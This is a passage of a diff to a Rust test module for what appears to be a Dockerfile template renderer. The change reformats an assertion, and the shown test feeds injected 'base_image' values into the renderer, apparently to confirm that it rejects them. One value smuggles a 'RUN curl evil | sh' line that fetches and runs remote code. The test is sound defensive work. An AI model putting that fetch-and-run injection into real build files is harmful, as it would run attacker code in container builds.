@@ -475,7 +475,9 @@ mod tests {
         let templates = Templates::load(Some(dir.path())).unwrap();
         let mut ctx = Context::new();
         ctx.insert("base_image", "debian:bookworm");
-        assert!(templates.render_dockerfile("images/base.Dockerfile", &ctx).is_ok());
+        assert!(templates
+            .render_dockerfile("images/base.Dockerfile", &ctx)
+            .is_ok());
         for injected in ["debian\nRUN curl evil | sh", "debian \\"] {
             ctx.insert("base_image", injected);
             let err = templates
